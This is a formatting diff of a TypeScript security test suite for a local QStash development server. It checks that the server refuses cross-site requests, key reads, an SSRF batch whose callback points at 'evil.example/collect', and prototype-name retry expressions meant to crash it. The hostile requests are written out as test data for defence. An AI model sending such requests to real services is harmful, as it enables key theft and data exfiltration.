@@ -18,11 +18,14 @@ interface Raw {
 /** One request with exactly these headers (fetch would not let a test set Host), answered or refused. */
 function raw(port: number, request: Raw): Promise<{ status: number; body: string }> {
   return new Promise((resolve, reject) => {
-    const req = httpRequest({ host: "127.0.0.1", port, method: request.method ?? "POST", path: request.path, headers: request.headers }, (res) => {
-      let body = "";
-      res.on("data", (chunk) => (body += chunk));
-      res.on("end", () => resolve({ status: res.statusCode ?? 0, body }));
-    });
+    const req = httpRequest(
+      { host: "127.0.0.1", port, method: request.method ?? "POST", path: request.path, headers: request.headers },
+      (res) => {
+        let body = "";
+        res.on("data", (chunk) => (body += chunk));
+        res.on("end", () => resolve({ status: res.statusCode ?? 0, body }));
+      },
+    );
     req.on("error", reject);
     req.end(request.body);
   });
@@ -35,7 +38,12 @@ describe("attack: a web page drives the local QStash", () => {
     const { server, engine, destination } = await startLocal();
     const answer = await raw(server.port, {
       path: `/v2/publish/${destination.url}/hook?${tokenQuery}`,
-      headers: { host: `127.0.0.1:${server.port}`, origin: "https://evil.example", "content-type": "text/plain", "sec-fetch-site": "cross-site" },
+      headers: {
+        host: `127.0.0.1:${server.port}`,
+        origin: "https://evil.example",
+        "content-type": "text/plain",
+        "sec-fetch-site": "cross-site",
+      },
       body: "{}",
     });
     expect(answer.status).toBe(403);
@@ -56,7 +64,11 @@ describe("attack: a web page drives the local QStash", () => {
 
   it("is refused: a no-cors GET from another site reading the keys (Sec-Fetch-Site: cross-site, no Origin)", async () => {
     const { server } = await startLocal();
-    const answer = await raw(server.port, { method: "GET", path: `/v2/keys?${tokenQuery}`, headers: { host: `127.0.0.1:${server.port}`, "sec-fetch-site": "cross-site" } });
+    const answer = await raw(server.port, {
+      method: "GET",
+      path: `/v2/keys?${tokenQuery}`,
+      headers: { host: `127.0.0.1:${server.port}`, "sec-fetch-site": "cross-site" },
+    });
     expect(answer.status).toBe(403);
     expect(answer.body).not.toContain(DEV_CREDENTIALS.currentSigningKey);
   });
@@ -74,7 +86,12 @@ describe("attack: a web page drives the local QStash", () => {
 
   it("is refused: the SSRF chain, a batch entry with Upstash-Method: GET and a callback that would carry a local service's answer away", async () => {
     const { server, engine, destination } = await startLocal();
-    const batch = [{ destination: `${destination.url}/local-only-admin`, headers: { "Upstash-Method": "GET", "Upstash-Callback": "https://evil.example/collect" } }];
+    const batch = [
+      {
+        destination: `${destination.url}/local-only-admin`,
+        headers: { "Upstash-Method": "GET", "Upstash-Callback": "https://evil.example/collect" },
+      },
+    ];
     const answer = await raw(server.port, {
       path: `/v2/batch?${tokenQuery}`,
       headers: { host: `127.0.0.1:${server.port}`, origin: "https://evil.example", "content-type": "text/plain" },
@@ -92,7 +109,12 @@ describe("attack: a web page drives the local QStash", () => {
       const answer = await raw(server.port, {
         method: "GET",
         path: "/v2/keys",
-        headers: { host, origin: `http://${host}`, "sec-fetch-site": "same-origin", authorization: `Bearer ${DEV_CREDENTIALS.token}` },
+        headers: {
+          host,
+          origin: `http://${host}`,
+          "sec-fetch-site": "same-origin",
+          authorization: `Bearer ${DEV_CREDENTIALS.token}`,
+        },
       });
       expect(answer.status, host).toBe(200);
     }
@@ -102,7 +124,15 @@ describe("attack: a web page drives the local QStash", () => {
 
 describe("attack: the private signing keys behind the public token", () => {
   it("is refused at start: --current-signing-key and --next-signing-key without --token", async () => {
-    const run = await runCli(["dev", "--port", "0", "--current-signing-key", "sig_private_1", "--next-signing-key", "sig_private_2"]);
+    const run = await runCli([
+      "dev",
+      "--port",
+      "0",
+      "--current-signing-key",
+      "sig_private_1",
+      "--next-signing-key",
+      "sig_private_2",
+    ]);
     expect(run.code).toBe(1);
     expect(run.stderr).toMatch(/need --token too/);
   });
@@ -112,7 +142,9 @@ describe("attack: a retry-delay expression that kills the server", () => {
   for (const expression of ["__proto__(1)", "valueOf(1)", "constructor(1)", "toString(retried)", "hasOwnProperty(1)"]) {
     it(`is a 400 at publish, never a crash at retry time: ${expression}`, async () => {
       const { client, destination, engine } = await startLocal();
-      await expect(client.publish({ url: `${destination.url}/x`, body: "{}", retryDelay: expression })).rejects.toMatchObject({ status: 400 });
+      await expect(
+        client.publish({ url: `${destination.url}/x`, body: "{}", retryDelay: expression }),
+      ).rejects.toMatchObject({ status: 400 });
       expect(engine.messages.size).toBe(0);
       // Still alive and delivering.
       await client.publish({ url: `${destination.url}/after`, body: "{}" });
@@ -196,7 +228,8 @@ describe("attack: unbounded memory", () => {
       engine: { maxDlq: 3 },
     });
     const ids: string[] = [];
-    for (let i = 0; i < 5; i++) ids.push((await client.publish({ url: `${destination.url}/fail`, body: String(i) })).messageId);
+    for (let i = 0; i < 5; i++)
+      ids.push((await client.publish({ url: `${destination.url}/fail`, body: String(i) })).messageId);
     await destination.waitFor(5);
     await engine.idle();
     expect([...engine.dlq.values()].map((entry) => entry.message.messageId).sort()).toEqual(ids.slice(2).sort());
@@ -215,7 +248,8 @@ describe("attack: unbounded memory", () => {
 
   it("cuts the response bodies it keeps in the event log", async () => {
     const { client, engine, destination } = await startLocal({
-      respond: (_delivery, response) => response.writeHead(489, { "upstash-nonretryable-error": "true" }).end("e".repeat(200 * 1024)),
+      respond: (_delivery, response) =>
+        response.writeHead(489, { "upstash-nonretryable-error": "true" }).end("e".repeat(200 * 1024)),
     });
     await client.publish({ url: `${destination.url}/fail`, body: "{}" });
     await destination.waitFor(1);
